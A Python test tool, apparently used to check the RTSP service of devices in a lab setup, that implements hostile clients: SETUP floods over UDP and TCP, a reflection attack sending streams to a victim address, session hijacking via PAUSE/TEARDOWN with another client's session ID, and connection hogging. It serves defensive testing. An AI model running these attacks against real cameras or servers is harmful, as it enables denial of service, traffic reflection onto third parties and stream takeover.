"""Hostile RTSP clients for the LAN side of the boxes (run with 'tools/box lan').

  rtspattack.py udp ADDR N          N SETUP datagrams to port 554
  rtspattack.py tcp ADDR N          N SETUPs one after the other on one connection
                                    (both with the sources the replies of 200 give)
  rtspattack.py reflect ADDR VICTIM SETUPs (TCP and UDP) with destination=VICTIM,
                                    then what VICTIM received in 3 s
  rtspattack.py steal ADDR          a player over interleaved TCP; another
                                    connection and a datagram PAUSE and TEARDOWN
                                    its session; its frames in 2 s before and after
  rtspattack.py hog ADDR FROM N K   from the address FROM: N connections each
                                    asking OPTIONS, then K connections each asking
                                    16 SETUPs (RTP over UDP, never played) and 4
                                    SETUP datagrams; while each flood is held, a
                                    player from the default address plays 3 s

Each prints one JSON object: the status codes answered and what was measured."""

import collections
import json
import re
import select
import socket
import sys
import time

URL = "rtsp://{}:554/live/main/av_stream"


def request(method, url, cseq, *headers):
    return (f"{method} {url} RTSP/1.0\r\nCSeq: {cseq}\r\n" + "".join(h + "\r\n" for h in headers)
            + "\r\n").encode()


class Conn:
    """An RTSP connection that keeps interleaved frames apart from replies."""

    def __init__(self, addr, src=None):
        self.sock = socket.create_connection((addr, 554), timeout=5, source_address=(src, 0) if src else None)
        self.buf = b""
        self.cseq = 0
        self.stamps = collections.Counter()   # RTP time stamps seen per channel 0

    def _fill(self, timeout):
        ready = select.select([self.sock], [], [], timeout)[0]
        if not ready:
            return False
        part = self.sock.recv(65536)
        if not part:
            raise EOFError
        self.buf += part
        return True

    def _frame(self):
        """Takes one interleaved frame off the buffer; False when none is whole."""
        if len(self.buf) < 4 or self.buf[0:1] != b"$":
            return False
        size = int.from_bytes(self.buf[2:4], "big")
        if len(self.buf) < 4 + size:
            return False
        if self.buf[1] == 0 and size >= 12:
            self.stamps[self.buf[8:12]] += 1
        self.buf = self.buf[4 + size:]
        return True

    def ask(self, method, url, *headers):
        self.cseq += 1
        self.sock.sendall(request(method, url, self.cseq, *headers))
        while True:
            while self._frame():
                pass
            if b"\r\n\r\n" in self.buf and self.buf[0:1] != b"$":
                head, _, self.buf = self.buf.partition(b"\r\n\r\n")
                text = head.decode(errors="replace")
                length = re.search(r"(?im)^content-length:\s*(\d+)", text)
                if length:
                    while len(self.buf) < int(length.group(1)):
                        self._fill(5)
                    self.buf = self.buf[int(length.group(1)):]
                return int(text.split()[1]), text
            if not self._fill(5):
                return 0, ""

    def frames(self, seconds):
        """Video frames (RTP time stamps) received in that time."""
        self.stamps.clear()
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            self._fill(end - time.monotonic())
            while self._frame():
                pass
        return len(self.stamps)


def session_of(text):
    m = re.search(r"(?m)^Session: (\d+)", text)
    return m.group(1) if m else ""


def udp_ask(addr, payload, sock=None, src=None):
    """One datagram request (from src when given); the status of its reply,
    0 when none came."""
    own = sock is None
    if own:
        sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        if src:
            sock.bind((src, 0))
    sock.settimeout(2)
    sock.sendto(payload, (addr, 554))
    try:
        reply = sock.recv(65536).decode(errors="replace")
    except socket.timeout:
        reply = ""
    if own:
        sock.close()
    return int(reply.split()[1]) if reply else 0, reply


def source_of(text):
    m = re.search(r"(?m)^Transport: .*;source=([^;\r\n]*)", text)
    return m.group(1) if m else ""


def flood_udp(addr, count):
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4 << 20)
    sock.setblocking(False)
    codes = collections.Counter()
    sources = set()
    transport = "Transport: RTP/AVP;unicast;client_port=9000-9001"

    def drain():
        while True:
            try:
                reply = sock.recv(65536).decode(errors="replace")
                code = reply.split()[1]
            except (BlockingIOError, IndexError):
                return
            codes[code] += 1
            if code == "200":
                sources.add(source_of(reply))

    for n in range(count):
        sock.sendto(request("SETUP", URL.format(addr) + "/track1", n + 1, transport), (addr, 554))
        if n % 100 == 99:
            drain()
            time.sleep(0.002)
    time.sleep(0.5)
    drain()
    return {"codes": codes, "sources": sorted(sources)}


def flood_tcp(addr, count):
    conn = Conn(addr)
    codes = collections.Counter()
    sources = set()
    for _ in range(count):
        code, text = conn.ask("SETUP", URL.format(addr) + "/track1",
                              "Transport: RTP/AVP;unicast;client_port=9002-9003")
        codes[str(code)] += 1
        if code == 200:
            sources.add(source_of(text))
    conn.sock.close()
    return {"codes": codes, "sources": sorted(sources)}


def reflect(addr, victim):
    sink = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sink.bind((victim, 9100))
    sink.settimeout(0.2)
    transport = f"Transport: RTP/AVP;unicast;destination={victim};client_port=9100-9101"
    conn = Conn(addr)
    codes = [conn.ask("SETUP", URL.format(addr) + "/track1", transport)[0]]
    # The datagram pair the box once took: SETUP, then PLAY of whatever it answered.
    code, text = udp_ask(addr, request("SETUP", URL.format(addr) + "/track1", 1, transport))
    codes.append(code)
    codes.append(udp_ask(addr, request("PLAY", URL.format(addr), 2, "Session: " + (session_of(text) or "1")))[0])
    got = 0
    end = time.monotonic() + 3
    while time.monotonic() < end:
        try:
            got += len(sink.recv(65536)) > 0
        except socket.timeout:
            pass
    return {"codes": codes, "received": got}


def steal(addr):
    player = Conn(addr)
    code, text = player.ask("SETUP", URL.format(addr) + "/track1", "Transport: RTP/AVP/TCP;unicast;interleaved=0-1")
    session = session_of(text)
    codes = [code, player.ask("PLAY", URL.format(addr), "Session: " + session)[0]]
    player.frames(1)   # the first key frame
    before = player.frames(2)
    thief = Conn(addr)
    for method in ("PAUSE", "TEARDOWN", "PLAY"):
        codes.append(thief.ask(method, URL.format(addr), "Session: " + session)[0])
    for method in ("PAUSE", "TEARDOWN"):
        codes.append(udp_ask(addr, request(method, URL.format(addr), 9, "Session: " + session))[0])
    after = player.frames(2)
    return {"codes": codes, "before": before, "after": after}


def play(addr):
    """Video frames a new player over interleaved TCP receives in 3 s."""
    player = Conn(addr)
    code, text = player.ask("SETUP", URL.format(addr) + "/track1", "Transport: RTP/AVP/TCP;unicast;interleaved=0-1")
    if code != 200 or player.ask("PLAY", URL.format(addr), "Session: " + session_of(text))[0] != 200:
        return 0
    frames = player.frames(3)
    player.sock.close()
    return frames


def hog(addr, src, count, setups):
    out = {"connections": collections.Counter(), "sessions": collections.Counter(),
           "datagrams": collections.Counter(), "played": []}
    held = []
    for _ in range(count):
        try:
            conn = Conn(addr, src)
            held.append(conn)
            code = conn.ask("OPTIONS", URL.format(addr))[0]
        except (EOFError, ConnectionError):
            code = 0   # closed at once
        out["connections"][str(code)] += 1
    out["played"].append(play(addr))
    for conn in held:
        conn.sock.close()
    held = [Conn(addr, src) for _ in range(setups)]
    for conn in held:
        for _ in range(16):
            out["sessions"][str(conn.ask("SETUP", URL.format(addr) + "/track1",
                                         "Transport: RTP/AVP;unicast;client_port=9004-9005")[0])] += 1
    for n in range(4):
        out["datagrams"][str(udp_ask(addr, request("SETUP", URL.format(addr) + "/track1", n + 1,
                                                   "Transport: RTP/AVP;unicast;client_port=9006-9007"),
                                     src=src)[0])] += 1
    out["played"].append(play(addr))
    for conn in held:
        conn.sock.close()
    return out


def main():
    kind, addr = sys.argv[1], sys.argv[2]
    if kind == "udp":
        out = flood_udp(addr, int(sys.argv[3]))
    elif kind == "tcp":
        out = flood_tcp(addr, int(sys.argv[3]))
    elif kind == "hog":
        out = hog(addr, sys.argv[3], int(sys.argv[4]), int(sys.argv[5]))
    elif kind == "reflect":
        out = reflect(addr, sys.argv[3])
    else:
        out = steal(addr)
    print(json.dumps(out))


if __name__ == "__main__":
    main()
